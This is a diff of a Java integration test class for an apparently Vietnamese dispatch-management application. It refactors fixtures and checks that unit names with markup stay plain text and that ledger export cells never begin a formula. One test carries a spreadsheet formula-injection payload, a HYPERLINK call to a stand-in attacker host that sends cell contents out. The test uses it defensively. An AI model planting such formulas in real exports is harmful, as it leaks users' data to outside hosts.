@@ -43,7 +43,6 @@ import vn.congvan.dispatch.Viewer;
 import vn.congvan.dispatch.Viewers;
 import vn.congvan.dispatch.Visibility;
 import vn.congvan.organization.OrganizationAdministration;
-import vn.congvan.organization.OrganizationDirectory;
 import vn.congvan.organization.UnitSummary;
 import vn.congvan.organization.Units;
 import vn.congvan.search.DispatchSearch;
@@ -75,9 +74,6 @@ class InputEncodingIntegrationTests {
 
     @Autowired
     OrganizationAdministration administration;
-
-    @Autowired
-    OrganizationDirectory organization;
 
     @Autowired
     AccountManagement accounts;
@@ -147,11 +143,8 @@ class InputEncodingIntegrationTests {
 
     @Test
     void aUnitNameWithMarkupIsTextOnTheUnitListAndTheLedger() throws Exception {
-        UnitSummary ward = Units.ward(
-                administration,
-                organization.unitByCode("QU-Q1").orElseThrow(),
-                "Đảng ủy phường " + SCRIPT,
-                LocalDate.of(2025, 7, 1));
+        UnitSummary ward =
+                Units.ward(administration, world.committee, "Đảng ủy phường " + SCRIPT, LocalDate.of(2025, 7, 1));
         Long id = management.createDraft(
                 DispatchDrafts.partyDispatch(
                         world.clerk.unitId(), Visibility.RESTRICTED, "Về việc tên đơn vị lạ", ward.id()),
@@ -270,11 +263,8 @@ class InputEncodingIntegrationTests {
     @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
     void ledgerExportCellsNeverStartAFormula(String lead) throws Exception {
         String formula = lead + "HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")";
-        UnitSummary ward = Units.ward(
-                administration,
-                organization.unitByCode("QU-Q1").orElseThrow(),
-                "Đảng ủy phường Công thức",
-                LocalDate.of(2025, 7, 1));
+        UnitSummary ward =
+                Units.ward(administration, world.committee, "Đảng ủy phường Công thức", LocalDate.of(2025, 7, 1));
         if (!Character.isISOControl(lead.charAt(0))) {
             ward = administration.editUnit(
                     ward.id(),
@@ -422,7 +412,8 @@ class InputEncodingIntegrationTests {
 
     private HttpResponse<String> logInAsIssuingClerkAndGet(String path) throws Exception {
         WebClient browser = new WebClient(port);
-        assertThat(browser.logIn("vanthu", Accounts.DEMO_PASSWORD).statusCode()).isEqualTo(302);
+        assertThat(browser.logIn(world.clerkUsername, Accounts.DEMO_PASSWORD).statusCode())
+                .isEqualTo(302);
         return browser.get(path);
     }
 
